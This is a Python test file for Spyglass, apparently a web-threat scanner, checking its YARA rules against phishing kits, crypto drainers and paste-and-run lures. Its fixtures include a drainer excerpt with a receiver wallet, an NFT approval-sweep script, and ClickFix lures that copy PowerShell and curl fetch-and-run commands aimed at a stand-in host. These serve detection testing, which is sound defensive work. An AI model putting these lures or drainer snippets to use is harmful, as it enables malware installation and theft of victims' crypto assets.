"""The YARA engine and Spyglass's bundled rules (spyglass/data/yara/).

Every bundled rule matches the kit it was written for -- a corpus page, or for the drainer and
paste-and-run rules a kit excerpt below -- and no benign page of the corpus (the hard
negatives, the real saved pages), nor the vendor libraries the test web serves.
"""

from __future__ import annotations

import doctest
import hashlib
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yara

from spyglass.analyze.verdicts import yara_rules
from spyglass.analyze.verdicts.base import Inputs
from spyglass.analyze.verdicts.yara_rules import scan_targets, yara_engine
from spyglass.errors import InvalidOption
from spyglass.models import RawCapture, Report, Transaction
from spyglass.refdata import yara as refdata_yara
from spyglass.refdata.sanctions_list import load as load_sanctions
from spyglass.refdata.verdicts import VerdictData
from spyglass.refdata.yara import load_rules
from spyglass.settings import Settings
from tests.analyze.verdicts.conftest import CorpusReport
from tests.conftest import report_of
from tests.testweb.corpus import samples
from tests.testweb.render import STATIC

# Rule -> the corpus kits it must match.
CORPUS_RULES: dict[str, list[str]] = {
    "phish_telegram_bot_exfil": ["phish-exchange-telegram"],
    "phish_discord_webhook_exfil": ["phish-exchange-discord"],
    "phish_email_autograb": ["phish-webmail-autograb", "phish-login-o365"],
    "phish_antibot_security_vendors": ["phish-bank-chase"],
    "phish_antibot_crawler_ip_ranges": ["phish-bank-bare-ip"],
    "phish_o365_kit": ["phish-webmail-autograb", "phish-login-o365"],
    "phish_kit_ajax_loot": ["phish-webmail-autograb"],
    "phish_seed_phrase_collector": ["phish-seed-metamask"],
    "obf_document_write_encoded_form": ["phish-obfuscated-paypal"],
    "obf_javascript_obfuscator_string_array": ["phish-obfuscated-paypal"],
}

# Kit excerpts for the rules whose kits live in other corpus modules.
INFERNO = """
/* Inferno Drainer v2.3 | t.me/inferno_support | do not resell */
const CFG = { receiver: "0x5a3f2bC9E1dD0b8a7E6f4C3b2A1908F7e6D5c4B3", minUsd: 20 };
async function go() {
  const [acct] = await window.ethereum.request({ method: "eth_requestAccounts" });
  const assets = await fetch("https://rpc.ankr.com/multichain", { method: "POST",
    body: JSON.stringify({ jsonrpc: "2.0", method: "ankr_getAccountBalance",
                           params: { walletAddress: acct } }) });
}
"""
APPROVAL_SWEEP = """
const MAX = "0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff";
async function claim() {
  const [owner] = await ethereum.request({ method: "eth_requestAccounts" });
  const url = "https://api.opensea.io/api/v2/chain/ethereum/account/" + owner + "/nfts";
  const nfts = await (await fetch(url)).json();
  for (const c of nfts.collections) {
    await ethereum.request({ method: "eth_sendTransaction", params: [{ from: owner, to: c.contract,
      data: iface.encodeFunctionData("setApprovalForAll", [CFG.operator, true]) }] });
  }
  const sig = await ethereum.request({ method: "eth_signTypedData_v4", params: [owner,
    JSON.stringify({ primaryType: "OrderComponents",
                     domain: { name: "Seaport", version: "1.5" } })] });
}
"""
FAKE_RECAPTCHA = """
<div class="rc-verify"><b>Verification steps</b><ol>
<li>Press Windows Button "&#8862;" + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div>
<script>
document.getElementById("rc-anchor").addEventListener("click", function () {
  navigator.clipboard.writeText('powershell -w h -c "iwr https://cdn-verify.example/v.ps1 | iex"'
    + ' # \u2705 I am not a robot - reCAPTCHA Verification ID: 7291');
});
</script>
"""
MAC_LURE = """
<p>Verify you are human: open Terminal (Command + Space, type Terminal),
press Cmd + V and Enter.</p>
<script>navigator.clipboard.writeText("curl -s https://cdn-verify.example/m | sh");</script>
"""
EXCERPT_RULES: dict[str, list[str]] = {
    "drainer_named_kit": [INFERNO],
    "drainer_approval_sweep": [APPROVAL_SWEEP],
    "clickfix_run_dialog_lure": [FAKE_RECAPTCHA, MAC_LURE],
    "clickfix_hidden_payload": [FAKE_RECAPTCHA],
}

# Pages that resemble the kits' artefacts but are ordinary.
DOCS_COPY_BUTTON = """
<h2>Installation</h2><p>Open a terminal and paste:</p>
<pre id="cmd-unix">curl -LsSf https://astral.sh/uv/install.sh | sh</pre>
<pre id="cmd-win">
powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"</pre>
<button onclick="navigator.clipboard.writeText(
  document.getElementById('cmd-unix').textContent)">Copy</button>
<p>Then press Ctrl + V in your terminal.</p>
"""
DEFI_SWAP = """
const MaxUint256 = "115792089237316195423570985008687907853269984665640564039457584007913129639935";
async function swap() {
  const [from] = await window.ethereum.request({ method: "eth_requestAccounts" });
  await token.approve(ROUTER, amountIn);
  const permit = { types: { PermitSingle: [] }, primaryType: "PermitSingle" };
}
"""
TELEGRAM_DOCS = """
<p>Send a message with <code>https://api.telegram.org/bot&lt;token&gt;/sendMessage?chat_id=&lt;id&gt;</code>.</p>
"""
NEGATIVE_EXCERPTS = [DOCS_COPY_BUTTON, DEFI_SWAP, TELEGRAM_DOCS]

NOW = datetime(2026, 1, 1, tzinfo=UTC)


def yara_result(report: Report) -> dict:
    """The engine's result as the document has it."""
    found = next(v for v in report.verdicts.engines.verdicts if v.engine == "yara")
    return found.model_dump(mode="json")


def rule_names(data: str | bytes) -> set[str]:
    raw = data.encode("utf-8") if isinstance(data, str) else data
    return {m.rule for m in load_rules(None).match(data=raw)}


def test_every_bundled_rule_has_a_kit_and_meta() -> None:
    rules = list(load_rules(None))
    assert {r.identifier for r in rules} == set(CORPUS_RULES) | set(EXCERPT_RULES)
    for rule in rules:
        assert rule.meta["description"] and rule.meta["category"] in (
            "phishing",
            "crypto-drainer",
            "paste-and-run",
        )
        assert 1 <= rule.meta["score"] <= 100
    assert (refdata_yara.BUNDLED / "SOURCE").is_file()


@pytest.mark.parametrize("rule", sorted(CORPUS_RULES))
async def test_rule_matches_its_kits(rule: str, corpus_report: CorpusReport) -> None:
    for name in CORPUS_RULES[rule]:
        scanned = await corpus_report(name)
        result = yara_result(scanned.report)
        matched = {e["detail"]["rule"]: e for e in result["evidence"]}
        assert rule in matched, (name, sorted(matched))
        assert matched[rule]["detail"]["where"] == "DOM"
        assert matched[rule]["reason"].endswith(f"(YARA rule {rule}, in DOM)")


@pytest.mark.parametrize("rule", sorted(EXCERPT_RULES))
def test_rule_matches_its_kit_excerpts(rule: str) -> None:
    for excerpt in EXCERPT_RULES[rule]:
        assert rule in rule_names(excerpt)


@pytest.mark.parametrize("excerpt", NEGATIVE_EXCERPTS, ids=["docs", "defi-swap", "tg-docs"])
def test_lookalike_ordinary_code_matches_nothing(excerpt: str) -> None:
    assert rule_names(excerpt) == set()


@pytest.mark.parametrize(
    "name",
    ["vendor/jquery-3.7.1.min.js", "vendor/bootstrap-5.3.9.bundle.min.js", "app.js", "tracker.js"],
)
def test_vendor_libraries_match_nothing(name: str) -> None:
    assert rule_names((STATIC / name).read_bytes()) == set()


BENIGN = [s.name for s in samples() if s.label == "benign"]


@pytest.mark.parametrize("name", BENIGN)
async def test_no_rule_fires_on_a_benign_page(name: str, corpus_report: CorpusReport) -> None:
    scanned = await corpus_report(name)
    result = yara_result(scanned.report)
    assert result["evidence"] == [], [e["reason"] for e in result["evidence"]]


async def test_kit_verdicts_carry_the_rule_categories(corpus_report: CorpusReport) -> None:
    scanned = await corpus_report("phish-webmail-autograb")
    result = yara_result(scanned.report)
    assert result["malicious"] and result["categories"] == ["phishing"]
    assert result["score"] == 100  # three kit artefacts
    assert "yara:phish_email_autograb" in result["tags"]


# ---------------------------------------------------------------- responses, bounds, user rules


def capture_with(dom: str, bodies: dict[str, bytes]) -> RawCapture:
    transactions, blobs = [], {}
    for i, (url, body) in enumerate(bodies.items()):
        sha = hashlib.sha256(body).hexdigest()
        blobs[sha] = body
        transactions.append(
            Transaction(request_id=f"r{i}", url=url, resource_type="Script",
                        mime_type="application/javascript", body_sha256=sha, status=200)
        )  # fmt: skip
    capture = RawCapture(
        url="https://kit.example/",
        final_url="https://kit.example/",
        started_at=NOW,
        finished_at=NOW,
        dom=dom,
        transactions=transactions,
    )
    capture.blobs.update(blobs)
    return capture


def run(capture: RawCapture, rules: yara.Rules | None = None):
    data = None if rules is None else VerdictData(sanctions=load_sanctions(), yara=rules)
    return yara_engine(Inputs(report=report_of(capture), capture=capture, data=data))


def test_a_match_in_a_script_response_names_its_url() -> None:
    capture = capture_with("<html><script src=/d.js></script></html>",
                           {"https://kit.example/d.js": INFERNO.encode()})  # fmt: skip
    result = run(capture)
    assert result.malicious and result.categories == ["crypto-drainer"]
    [evidence] = result.evidence
    assert evidence.detail["where"] == "https://kit.example/d.js"
    assert evidence.detail["rule"] == "drainer_named_kit"
    assert evidence.reason.startswith("carries the name or panel strings of a known crypto-drainer")


def test_scanned_bytes_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(yara_rules, "MAX_SCAN_BYTES", 100)
    monkeypatch.setattr(yara_rules, "MAX_BODY_BYTES", 60)
    capture = capture_with("d" * 80, {"https://kit.example/a.js": b"a" * 80,
                                      "https://kit.example/b.js": b"b" * 80})  # fmt: skip
    report = report_of(capture)
    targets = scan_targets(Inputs(report=report, capture=capture))
    assert [(t.where, len(t.data)) for t in targets] == [
        ("DOM", 60),
        ("https://kit.example/a.js", 40),
    ]


USER_RULE = """
rule acme_panel_marker
{
    meta:
        description = "carries the Acme phishing panel's build marker"
        category = "phishing"
    strings:
        $marker = "acme-panel-build-7731"
    condition:
        $marker
}
"""


def test_user_rules_folder_adds_to_the_bundled_rules(tmp_path: Path) -> None:
    (tmp_path / "acme.yar").write_text(USER_RULE)
    (tmp_path / "notes.txt").write_text("not a rule file")
    rules = load_rules(tmp_path)
    assert {r.identifier for r in rules} >= {"acme_panel_marker", "phish_telegram_bot_exfil"}
    result = run(capture_with("<p>acme-panel-build-7731</p>", {}), rules)
    [evidence] = result.evidence
    assert evidence.detail["namespace"] == "user/acme"
    assert evidence.detail["score"] == yara_rules.USER_DEFAULT_SCORE
    assert evidence.reason == (
        "carries the Acme phishing panel's build marker (YARA rule acme_panel_marker, in DOM)"
    )
    assert result.malicious and result.categories == ["phishing"]
    assert load_rules(tmp_path) is rules  # compiled once


def test_a_broken_user_rule_is_a_clear_error_naming_the_file(tmp_path: Path) -> None:
    (tmp_path / "good.yar").write_text(USER_RULE)
    broken = tmp_path / "broken.yara"
    broken.write_text("rule broken_rule\n{\n    condition:\n        $missing\n}\n")
    with pytest.raises(InvalidOption) as caught:
        load_rules(tmp_path)
    assert str(broken) in caught.value.message
    assert "does not compile" in caught.value.message


def test_a_rules_folder_that_does_not_exist(tmp_path: Path) -> None:
    with pytest.raises(InvalidOption, match="is not a folder"):
        load_rules(tmp_path / "missing")


def test_docstring_examples() -> None:
    assert doctest.testmod(yara_rules).failed == 0


def test_the_setting(tmp_path: Path) -> None:
    assert Settings.from_env({"SPYGLASS_YARA_RULES": str(tmp_path)}).yara_rules_dir == tmp_path
    assert Settings.from_env({}).yara_rules_dir is None
